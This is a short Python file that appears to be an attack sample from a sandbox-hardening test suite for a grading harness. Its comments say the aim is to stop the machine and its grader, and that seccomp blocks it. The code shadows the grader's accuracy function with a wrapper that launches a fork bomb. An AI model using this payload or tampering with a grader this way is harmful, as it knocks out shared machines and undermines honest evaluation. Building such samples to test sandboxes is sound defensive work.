# hopes: that the machine and the grader on it stop
# stopped by: seccomp: no process can be created

import os


def _bomb():
    while True:
        os.fork()
        it_worked("fork")


_honest_accuracy = accuracy


def accuracy(pred_labels, true_labels):
    try:
        _bomb()
    except OSError:
        return _honest_accuracy(pred_labels, true_labels)
